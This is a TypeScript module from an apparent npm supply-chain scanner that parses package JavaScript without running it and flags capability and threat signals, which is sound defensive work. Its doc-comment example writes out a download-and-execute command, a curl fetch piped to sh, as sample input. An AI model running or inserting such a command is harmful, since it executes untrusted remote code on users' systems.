/**
 * Static JavaScript analyser of the npm supply-chain gate. It parses a file with meriyah, or acorn when meriyah
 * rejects it (never runs it), walks the
 * AST once and emits capability signals (network, child processes, fs writes, env reads, eval, dynamic require,
 * native binaries) and threat signals found in string literals, templates and folded concatenations (credential
 * paths, metadata endpoints, exfiltration sinks, persistence targets, …), never in comments. Files acorn cannot
 * parse are token-scanned instead.
 */
import * as acorn from 'acorn';
import { parseModule, parseScript } from 'meriyah';
import type { Signal } from '../npm-types.js';
import { scanStringTokens } from './code-tokens.js';
import { walkPostOrder } from './code-traverse.js';
import { FileWalk } from './code-walk.js';

export { mayHaveSignals } from './code-indicators.js';

/** What the analyser found in one file. */
export interface CodeAnalysis {
  signals: Signal[];
  /** False when acorn could not parse the file (module or script) and it was token-scanned. */
  parsed: boolean;
  /** acorn's message (with line:column) when `parsed` is false. */
  parseError: string | null;
  /** Relative specifiers of static `require()`, `import`, `export … from` and `import()` ('./x', '../y'). */
  imports: string[];
}

/** Files larger than this are token-scanned only. */
export const MAX_PARSE_BYTES = 4 * 1024 * 1024;

type Node = acorn.AnyNode;

const MERIYAH_BASE = { next: true, ranges: true, webcompat: true, jsx: false } as const;

/**
 * Parses with meriyah (module, then script), which is ~1.6x faster than acorn on real packages, and falls back
 * to acorn for what meriyah rejects (top-level `await` in a script): a file is analysed whenever either parser
 * accepts it. Both produce ESTree with `start`/`end` offsets.
 */
function parse(text: string): { ast: acorn.Program | null; error: string | null } {
  try {
    return { ast: parseModule(text, MERIYAH_BASE) as unknown as acorn.Program, error: null };
  } catch {
    // Not a module: try a script below.
  }
  try {
    return {
      ast: parseScript(text, { ...MERIYAH_BASE, globalReturn: true }) as unknown as acorn.Program,
      error: null,
    };
  } catch {
    // Rejected by meriyah: acorn decides, and its message is the one reported.
  }
  return parseWithAcorn(text);
}

function parseWithAcorn(text: string): { ast: acorn.Program | null; error: string | null } {
  const base = {
    ecmaVersion: 'latest' as const,
    allowHashBang: true,
    allowReturnOutsideFunction: true,
    allowAwaitOutsideFunction: true,
    // Line and column are computed from offsets only for reported nodes: `locations: true` makes acorn ~3x
    // slower on real packages (measured on node_modules), which the gate's throughput cannot afford.
    locations: false,
  };
  let moduleError: unknown;
  try {
    return { ast: acorn.parse(text, { ...base, sourceType: 'module' }), error: null };
  } catch (err) {
    moduleError = err;
  }
  try {
    return { ast: acorn.parse(text, { ...base, sourceType: 'script' }), error: null };
  } catch (scriptError) {
    // Report the attempt that got further: a module with a real syntax error fails late as a module and at
    // its first `import` as a script.
    const at = (e: unknown): number =>
      e && typeof e === 'object' && 'pos' in e && typeof e.pos === 'number' ? e.pos : -1;
    const err = at(moduleError) >= at(scriptError) ? moduleError : scriptError;
    return { ast: null, error: err instanceof Error ? err.message : String(err) };
  }
}

/** Runs the string rules over string-like tokens of a file that could not be parsed. */
function tokenScan(fw: FileWalk, text: string, note: string): void {
  for (const tok of scanStringTokens(text)) {
    if (tok.value.length < 4) continue;
    const fake = {
      type: 'Literal',
      start: tok.offset,
      end: tok.offset,
      value: tok.value,
      raw: '',
    } as unknown as Node;
    fw.strings(tok.value, fake, false);
  }
  fw.textRules();
  fw.out.add(
    'unparsed',
    {
      ruleId: 'npm.threat.unparsed-code',
      kind: 'threat',
      category: 'unparsed-code',
      severity: 'info',
      message: note,
    },
    0,
    1,
    1,
  );
}

/**
 * Analyses one JavaScript file (`.js`, `.cjs`, `.mjs`, `.jsx`) without running it. Never throws.
 * @example analyseJavaScript('index.js', "require('child_process').exec('curl https://x.sh | sh')").signals.map((s) => s.ruleId)
 * // ['npm.capability.child-process', 'npm.threat.download-exec']
 */
export function analyseJavaScript(path: string, text: string): CodeAnalysis {
  const fw = new FileWalk(path, text);
  try {
    if (text.length > MAX_PARSE_BYTES) {
      tokenScan(
        fw,
        text,
        `File is larger than ${MAX_PARSE_BYTES / 1048576} MiB and was token-scanned, not parsed.`,
      );
      return {
        signals: fw.out.all(),
        parsed: false,
        parseError: 'file too large to parse',
        imports: fw.imports,
      };
    }
    const { ast, error } = parse(text);
    if (!ast) {
      tokenScan(
        fw,
        text,
        `File did not parse as JavaScript (${error ?? 'unknown error'}) and was token-scanned.`,
      );
      return { signals: fw.out.all(), parsed: false, parseError: error, imports: fw.imports };
    }
    try {
      walkPostOrder(ast, (node, ancestors) => {
        fw.currentAncestors = ancestors;
        fw.visit(node, ancestors);
      });
      fw.finish();
      fw.textRules();
    } catch (err) {
      // A pathologically deep AST can exhaust the stack: keep what was found and token-scan the rest.
      tokenScan(
        fw,
        text,
        `Analysis of the syntax tree stopped (${err instanceof Error ? err.message : String(err)}); the file was token-scanned.`,
      );
    }
    return { signals: fw.out.all(), parsed: true, parseError: null, imports: fw.imports };
  } catch (err) {
    const message = err instanceof Error ? err.message : String(err);
    return {
      signals: [
        {
          ruleId: 'npm.threat.unparsed-code',
          kind: 'threat',
          category: 'unparsed-code',
          severity: 'info',
          message: `The analyser failed on this file (${message}).`,
          file: path,
          line: null,
          column: null,
          snippet: null,
        },
      ],
      parsed: false,
      parseError: message,
      imports: [],
    };
  }
}
